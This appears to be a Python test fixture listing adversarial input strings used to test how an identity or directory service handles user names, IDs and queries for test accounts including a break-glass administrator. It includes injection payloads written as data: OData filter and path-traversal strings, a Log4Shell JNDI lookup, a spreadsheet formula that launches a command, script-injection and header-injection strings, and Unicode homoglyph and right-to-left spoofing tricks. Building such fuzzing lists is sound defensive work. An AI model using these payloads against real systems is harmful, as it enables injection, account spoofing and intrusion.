"""Texts that something, somewhere, has once taken for something else."""

from support.company import ALICE, BEN, BREAKGLASS, GUEST

HOSTILE = [
    *(user.user_principal_name for user in (ALICE, BEN, GUEST, BREAKGLASS)),
    *(user.id for user in (ALICE, BREAKGLASS)),
    BREAKGLASS.user_principal_name.upper(),
    f"  {BREAKGLASS.user_principal_name}\t",
    f"CONTOSO\\{ALICE.id}",
    # letters that become others when their case is changed, or that no reader sees
    "brea\u212aglass@contoso.com",
    "breakgla\u017fs@contoso.com",
    "break\u00adglass@contoso.com",
    "\uff20",
    "\u202egnp.exe",
    # addresses, queries and templates
    "' or 1 eq 1 or '' eq '",
    "../../organization",
    "$batch",
    "%2e%2e%2f",
    "a/b?c#d",
    "{+baseurl}",
    "${jndi:ldap://x}",
    # spreadsheets, pages and headers
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\r\nSet-Cookie: a=b",
    # what cannot be stored, or not in one piece
    "\ud800",
    "\x00",
    "a@b\u0000",
    "\U0001f600" * 200,
    "x" * 40_000,
    # the edges of names
    "",
    "@",
    "@@",
    "a@",
    "@b",
    "$",
    "\\",
    "NT AUTHORITY\\x",
    "00000000-0000-0000-0000-000000000000",
    # SIDs, and what is nearly one
    "S-1-5-18",
    "S-1-12-1-1-2-3-4",
    "S-1-12-1-4294967296-0-0-0",
    "S-1-5-21-1-2-3-500",
    # JSON inside JSON
    "0" * 5000,
    "1e400",
    "[]",
    "[{}]",
    "[" * 5000,
    '{"a":' * 5000,
    "null",
    "true",
    "NaN",
]
